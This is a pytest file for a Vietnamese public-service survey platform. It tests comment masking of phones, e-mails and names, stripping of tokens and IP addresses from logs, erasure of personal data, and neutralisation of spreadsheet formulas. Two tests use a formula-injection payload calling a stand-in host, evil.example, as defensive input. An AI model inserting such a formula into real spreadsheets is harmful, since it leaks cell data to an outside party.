"""What the platform promises citizens: their answers cannot be tied to them. Log lines,
comments, exports and the invitations' personal data, each checked as an attacker or a
careless reader would meet them."""

from __future__ import annotations

import io
import logging
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
import yaml
from sqlalchemy import func, select

from survey.audit.models import AuditEvent
from survey.campaigns.models import Invitation
from survey.campaigns.services import change_status
from survey.csv_files import read_rows, spreadsheet_safe, write_rows
from survey.db import utcnow
from survey.privacy import (
    EMAIL_MASK,
    NAME_MASK,
    NUMBER_MASK,
    PHONE_MASK,
    SurveyVisitorsOutOfLogs,
    mask_personal_data,
)
from survey.questionnaires.definition import QUESTIONNAIRE_DIR, load_text
from survey.questionnaires.services import import_definition
from survey.responses.models import Submission
from tests import factories
from tests.respond.conftest import complete_answers, form_fields, refused

# Real-world spellings of Vietnamese phone numbers, e-mail addresses and names.
PERSONAL = [
    ("Gọi tôi: 0912345678", PHONE_MASK),
    ("sđt 0912 345 678 nhé", PHONE_MASK),
    ("0912  345  678", PHONE_MASK),
    ("0912.345.678", PHONE_MASK),
    ("0912-345-678", PHONE_MASK),
    ("0912/345/678", PHONE_MASK),
    ("09.12.34.56.78", PHONE_MASK),
    ("+84912345678", PHONE_MASK),
    ("+84 912 345 678", PHONE_MASK),
    ("(+84) 912-345-678", PHONE_MASK),
    ("(84) 912 345 678", PHONE_MASK),
    ("0084 912 345 678", PHONE_MASK),
    ("84912345678", PHONE_MASK),
    ("máy bàn 0262 3852 123", PHONE_MASK),
    ("(0262) 3.852.123", PHONE_MASK),
    ("CCCD 066090001234", NUMBER_MASK),
    ("nguyenvana@gmail.com", EMAIL_MASK),
    ("Nguyen.Van-A+sipas@so.daklak.gov.vn", EMAIL_MASK),
    ("x (at) gmail.com", EMAIL_MASK),
    ("x [at] gmail [dot] com", EMAIL_MASK),
    ("x at gmail dot com", EMAIL_MASK),
    ("x a còng gmail chấm com", EMAIL_MASK),
    ("x @ gmail . com", EMAIL_MASK),
    ("anh Nguyễn Văn An rất nhiệt tình", NAME_MASK),
    ("cảm ơn chị Hoa ở quầy 3", NAME_MASK),
    ("Cán bộ Trần Thị Bích hướng dẫn tận tình", NAME_MASK),
    ("tôi tên là Y Ngông Niê Kdăm", NAME_MASK),
    ("gặp ông Lê Văn Tám", NAME_MASK),
    ("Phạm Minh Chính tiếp nhận hồ sơ", NAME_MASK),
    ("đ/c Hùng giải quyết nhanh", NAME_MASK),
]
# What must survive the masks: without it, comments would be useless.
KEPT = [
    "Thủ tục đất đai chậm 20 ngày",
    "ngày 12/03/2025 nộp hồ sơ",
    "Lệ phí 1.500.000 đồng là cao",
    "Em cảm ơn, anh em cán bộ rất nhiệt tình",
    "Nên mở thêm quầy ở Hà Nội và Đắk Lắk",
    "năm 2024-2025 tốt hơn",
    "chờ 3 tiếng",
]


CORPUS = yaml.safe_load((Path(__file__).parent / "masking_corpus.yaml").read_text("utf-8"))


def test_the_masking_corpus_is_large_and_says_what_each_comment_becomes():
    assert len(CORPUS) >= 100
    assert all(len(entry) == 2 for entry in CORPUS)
    assert sum(written == shown for written, shown in CORPUS) >= 25, "what must survive"


@pytest.mark.parametrize(("written", "shown"), CORPUS, ids=[w[:40] for w, _ in CORPUS])
def test_each_comment_of_the_corpus_is_shown_as_expected(written, shown):
    assert mask_personal_data(written) == shown


@pytest.mark.parametrize(("text", "mask"), PERSONAL)
def test_personal_data_in_comments_is_masked(text, mask):
    masked = mask_personal_data(text)
    assert mask in masked
    for token in ("912", "345", "gmail", "066090", "Văn An", "Hoa", "Bích", "Ngông", "Hùng"):
        assert token not in masked, masked


@pytest.mark.parametrize("text", KEPT)
def test_ordinary_comments_are_left_alone(text):
    assert mask_personal_data(text) == text


def _record(logger, msg, *args):
    return logging.LogRecord(logger, logging.INFO, __file__, 1, msg, args, None)


@pytest.mark.parametrize(
    "record",
    [
        # werkzeug's development server
        _record(
            "werkzeug",
            '203.0.113.9 - - [02/Dec/2026 10:37:12] "%s" %s %s',
            "POST /s/Zk3v9Qx2LmN8pR4tW6yB HTTP/1.1",
            "303",
            "5123",
        ),
        # gunicorn's access log (its default format, with the atoms as a mapping)
        _record(
            "gunicorn.access",
            '%(h)s %(l)s %(u)s %(t)s "%(r)s" %(s)s %(b)s "%(f)s" "%(a)s"',
            {
                "h": "2001:db8::7",
                "l": "-",
                "u": "-",
                "t": "[02/Dec/2026:10:37:12 +0700]",
                "r": "GET /s/Zk3v9Qx2LmN8pR4tW6yB?lang=en HTTP/1.1",
                "s": "200",
                "b": "5120",
                "f": "-",
                "a": "Mozilla/5.0",
            },
        ),
        _record("survey", "Exception on /p/sxd-1 [POST] from 198.51.100.7"),
        _record("gunicorn.access", "2001:db8:0:0:0:0:0:7 GET /p/sxd-1 at 10:37:12"),
        _record("gunicorn.access", "::ffff:203.0.113.9 GET /s/abc at 10:37:12"),
    ],
)
def test_survey_log_lines_carry_neither_token_nor_address(record):
    SurveyVisitorsOutOfLogs().filter(record)
    line = record.getMessage()
    for secret in ("Zk3v9Qx2LmN8pR4tW6yB", "203.0.113.9", "2001:db8::7", "198.51.100.7", "sxd-1"):
        assert secret not in line
    assert not {"5120", "5123"} & set(line.split()), "a page's size names its point"
    assert "/s/…" in line or "/p/…" in line
    assert "10:37:12" in line or "Exception" in line, "the time stays: it says nothing alone"


def test_staff_log_lines_are_left_as_they_are():
    record = _record("werkzeug", '10.0.0.5 - - [x] "%s" %s %s', "GET /admin/ HTTP/1.1", 200, 9)
    SurveyVisitorsOutOfLogs().filter(record)
    assert "10.0.0.5" in record.getMessage()


def test_rate_limit_keys_hold_no_address_point_or_token(app):
    from survey.extensions import client_key, keyed

    with app.test_request_context("/p/sxd-1", environ_base={"REMOTE_ADDR": "203.0.113.9"}):
        keys = [client_key(), keyed("point", "sxd-1"), keyed("api", "Bearer sks_secret")]
    for key in keys:
        assert "203.0.113.9" not in key
        assert "sxd" not in key.split(":", 1)[1]
        assert "secret" not in key
    with app.test_request_context("/", environ_base={"REMOTE_ADDR": "203.0.113.10"}):
        assert client_key() != keys[0], "one counter per client still"


def test_the_app_filters_its_loggers(app):
    for name in ("werkzeug", "gunicorn.access"):
        assert any(isinstance(f, SurveyVisitorsOutOfLogs) for f in logging.getLogger(name).filters)


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_no_exported_cell_is_a_formula(formula):
    assert spreadsheet_safe(formula) == "'" + formula
    assert spreadsheet_safe(42) == 42
    text = write_rows(("code", "name"), [{"code": "A", "name": formula}])
    assert f",'{formula[0]}" in text or ",\"'" in text
    rows = list(read_rows(text.encode("utf-8"), required=("code", "name")))
    assert rows[0][1]["name"] == formula.strip(), "an exported file imports back unchanged"


def test_the_responses_export_masks_and_defuses_comments(runner, open_campaign, db, tmp_path):
    campaign, _agency, point = open_campaign
    factories.submission(
        campaign=campaign,
        service_point=point,
        answers={"TC1": 4, "E10": '=HYPERLINK("http://evil.example/?"&A1,"gọi 0912 345 678")'},
    )
    factories.submission(
        campaign=campaign,
        service_point=point,
        answers={"TC1": 5, "E10": "chị Lan, x (at) gmail.com"},
    )
    db.session.commit()
    output = tmp_path / "responses.xlsx"
    arguments = ["--campaign", campaign.code, "--format", "xlsx", "--output", str(output)]
    result = runner.invoke(args=["export", "responses", *arguments])
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(output)["responses"]
    header = [cell.value for cell in sheet[1]]
    comments = [row[header.index("E10")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type != "f" for cell in comments), "no live formula"
    values = [cell.value for cell in comments]
    assert values[0].startswith("'=HYPERLINK(")
    assert PHONE_MASK in values[0]
    assert values[1] == f"chị {NAME_MASK}, {EMAIL_MASK}"


def test_closing_a_campaign_erases_phones_and_dossier_codes_and_keeps_counts(open_campaign, db):
    campaign, agency, _ = open_campaign
    for n, used in enumerate((True, False, False)):
        db.session.add(
            Invitation(
                campaign=campaign,
                agency=agency,
                token=f"tok{n}".ljust(22, "x"),
                dossier_code=f"H01.2026.{n}",
                phone="0912345678",
                expires_at=utcnow() + timedelta(days=3),
                used=used,
            )
        )
    db.session.commit()
    change_status(campaign, "closed", actor="t", user_id=None)
    db.session.commit()
    invitations = db.session.scalars(select(Invitation)).all()
    assert len(invitations) == 3
    assert sum(i.used for i in invitations) == 1
    assert all(i.phone is None and i.dossier_code is None for i in invitations)
    assert campaign.personal_data_erased_at is not None
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "privacy.erase"))
    assert event.after["phones_erased"] == 3
    assert event.after["used"] == 1


def test_the_purge_command_erases_on_demand(runner, open_campaign, db):
    campaign, agency, _ = open_campaign
    db.session.add(
        Invitation(
            campaign=campaign,
            agency=agency,
            token="p" * 22,
            dossier_code="H01.2026.9",
            phone="0987654321",
            expires_at=utcnow() + timedelta(days=3),
        )
    )
    db.session.commit()
    result = runner.invoke(args=["privacy", "purge", "--campaign", campaign.code])
    assert result.exit_code == 0, result.output
    assert "erased 1 phone numbers and 1 dossier codes" in result.output
    assert db.session.scalar(select(func.count()).where(Invitation.phone.is_not(None))) == 0
    missing = runner.invoke(args=["privacy", "purge", "--campaign", "nope"])
    assert missing.exit_code != 0
    assert "nope" in missing.output


def test_a_closed_campaign_takes_no_answers_by_link_or_code(client, open_campaign, db):
    campaign, agency, _ = open_campaign
    page = client.get("/p/sxd-1").get_data(as_text=True)
    change_status(campaign, "closed", actor="t", user_id=None)
    db.session.commit()
    service_id = agency.services[0].id
    response = client.post("/p/sxd-1", data={**form_fields(page), **complete_answers(service_id)})
    assert response.status_code == 410
    assert db.session.scalar(select(func.count()).select_from(Submission)) == 0


def test_at_most_n_choices_is_checked_on_the_web_form(client, open_campaign, db):
    """A multiple-choice item with max_choices used to pass the form and fail on storing."""
    campaign, agency, _ = open_campaign
    source = (QUESTIONNAIRE_DIR / "sipas-citizen.yaml").read_text(encoding="utf-8")
    changed = source.replace(
        "      - code: A3\n        type: single_choice\n",
        "      - code: A3\n        type: multiple_choice\n        max_choices: 1\n",
    )
    assert changed != source
    version = import_definition(load_text(changed, "changed.yaml"), changed, actor="t").version
    campaign.questionnaire_version = version
    db.session.commit()
    page = client.get("/p/sxd-1?lang=en").get_data(as_text=True)
    data = {**form_fields(page), **complete_answers(agency.services[0].id), "A3": ["1", "2"]}
    response = refused(client, client.post("/p/sxd-1?lang=en", data=data))
    assert "Choose at most 1." in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(Submission)) == 0
    data["A3"] = ["2"]
    assert client.post("/p/sxd-1", data=data).status_code == 303


def test_nothing_is_read_from_a_spreadsheet_as_a_formula(tmp_path):
    """The Excel results file, read back by openpyxl, has no formula cells either."""
    from survey.reports.exports import safe_frame

    frame = safe_frame(
        __import__("pandas").DataFrame({"domain": ["=1+1", "SXD"], "estimate": [0.5, 0.7]})
    )
    output = io.BytesIO()
    frame.to_excel(output, index=False)
    sheet = openpyxl.load_workbook(io.BytesIO(output.getvalue())).active
    assert [c.data_type for c in sheet["A"]] == ["s", "s", "s"]
    assert [c.value for c in sheet["B"]][1:] == [0.5, 0.7]
